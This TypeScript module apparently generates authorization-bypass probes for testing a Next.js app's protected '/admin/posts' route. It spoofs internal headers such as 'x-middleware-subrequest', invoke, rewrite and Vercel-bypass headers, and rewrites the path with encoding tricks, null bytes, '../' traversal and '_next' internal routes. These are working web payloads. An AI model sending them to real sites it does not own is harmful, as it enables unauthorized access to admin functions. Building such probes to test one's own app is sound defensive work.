import { readFileSync } from 'node:fs'
import path from 'node:path'

/**
 * A way to make a request look like an internal one of Next.js, or its address like another one.
 * Some layer may fail to recognise it.
 */
export type BypassTechnique = {
  what: string
  headers: Record<string, string>
  path: (path: string) => string
}

const tree = encodeURIComponent(
  JSON.stringify(['', { children: ['admin', { children: ['__PAGE__', {}] }] }, null, null, true]),
)

/** Headers that Next.js, its proxy and hosting platforms use internally. */
const ownHeaders: Record<string, string>[] = [
  ...['proxy', 'middleware', 'src/proxy', 'src/middleware'].map((name) => ({
    'x-middleware-subrequest': Array(5).fill(name).join(':'),
  })),
  { 'x-middleware-subrequest': 'pages/_middleware' },
  { 'x-middleware-subrequest-id': '0'.repeat(16), 'x-middleware-subrequest': 'proxy' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-invoke': '1', 'x-middleware-rewrite': '/admin/posts' },
  { 'x-middleware-override-headers': 'x-staff', 'x-middleware-request-x-staff': 'owner' },
  { 'x-nextjs-data': '1' },
  { rsc: '1' },
  { rsc: '1', 'next-router-state-tree': tree, 'next-url': '/admin' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
  { rsc: '1', 'next-router-segment-prefetch': '/admin/__PAGE__' },
  { 'x-action-forwarded': '1' },
  { 'next-resume': '1', 'x-nextjs-postponed': '1' },
  {
    'x-invoke-path': '/admin/posts',
    'x-invoke-output': '/admin/posts',
    'x-invoke-status': '200',
    'x-invoke-query': '%7B%7D',
  },
  { 'x-matched-path': '/admin/posts', 'x-now-route-matches': '1=1' },
  { 'x-original-url': '/admin/posts', 'x-rewrite-url': '/admin/posts' },
  { 'x-prerender-revalidate': 'secret', 'x-prerender-revalidate-if-generated': '1' },
  { 'x-next-revalidated-tags': 'admin', 'x-next-revalidate-tag-token': 'secret' },
  { 'x-vercel-protection-bypass': '1', 'x-vercel-internal': '1', 'x-is-trusted': '1' },
  { 'x-forwarded-host': 'localhost', 'x-forwarded-proto': 'https' },
  { 'x-http-method-override': 'PUT', 'x-method-override': 'DELETE' },
  { authorization: 'Bearer undefined' },
  { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'navigate' },
]

/** Returns other spellings of an address, and the addresses of Next.js for parts of a page. */
const forms = (buildId: string): ((path: string) => string)[] => [
  (p) => p.toUpperCase(),
  (p) => p.replace(/^\/./, (start) => start.toUpperCase()),
  (p) => `/${p}`,
  (p) => p.replace(/(?!^)\//, '//'),
  (p) => p.replace(/^\/./, (start) => `/%${start.charCodeAt(1).toString(16)}`),
  (p) => p.replace(/(?!^)\//, '%2F'),
  (p) => p.replace(/(?!^)\//, '\\'),
  (p) => `${p}/`,
  (p) => `${p}.`,
  (p) => `${p}%00`,
  (p) => `${p}%20`,
  (p) => `${p};a=b`,
  (p) => `/.${p}`,
  (p) => `/posts/..${p}`,
  (p) => `/posts/%2e%2e${p}`,
  (p) => `/posts/..%2f${p.slice(1)}`,
  (p) => `/en${p}`,
  (p) => `/index${p}`,
  (p) => `${p}.rsc`,
  (p) => `${p}.prefetch.rsc`,
  (p) => `${p}.segments/_tree.segment.rsc`,
  (p) => `${p}.txt`,
  (p) => `${p}.html`,
  (p) => `${p}/page`,
  (p) => `${p}?_rsc=1`,
  (p) => `${p}?__nextDefaultLocale=en&__nextDataReq=1&nxtPid=1`,
  (p) => `/_next/data/${buildId}${p}.json`,
  (p) => `/_next/image?url=${encodeURIComponent(p)}&w=64&q=75`,
  (p) => `/_next/static/..%2f..%2fserver/app${p}.html`,
  (p) => `http://127.0.0.1${p}`,
]

/** Returns all techniques for the build in a checkout. The first one changes nothing. */
export function listBypassTechniques(checkout: string): BypassTechnique[] {
  const buildId = readFileSync(path.join(checkout, '.next/BUILD_ID'), 'utf8').trim()
  const unchanged = (address: string) => address
  return [
    { what: 'unchanged', headers: {}, path: unchanged },
    ...[...ownHeaders, Object.assign({}, ...ownHeaders)].map((headers) => ({
      what: JSON.stringify(headers),
      headers,
      path: unchanged,
    })),
    ...forms(buildId).map((form) => ({ what: form('/admin/posts'), headers: {}, path: form })),
  ]
}
